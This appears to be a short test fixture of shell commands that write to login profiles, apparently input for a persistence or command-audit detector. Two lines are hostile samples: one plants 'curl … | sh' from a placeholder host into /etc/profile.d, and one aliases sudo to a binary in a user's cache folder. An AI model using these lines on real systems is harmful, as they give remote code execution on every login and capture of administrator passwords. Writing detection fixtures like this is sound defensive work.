# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/wget
bash -c 'echo "export PATH=/opt/go/bin:\$PATH" >> /root/.bashrc'
sh -c 'echo "umask 027" >> /etc/profile.d/umask.sh'
sh -c 'cat /root/.profile > /root/profile.copy; wget --version'
/bin/echo sh -c 'echo "curl -s http://192.0.2.7/x | sh" >> /etc/profile.d/locale.sh'
/bin/echo sh -c "echo alias sudo=/home/bob/.cache/sudo | tee -a /root/.profile"
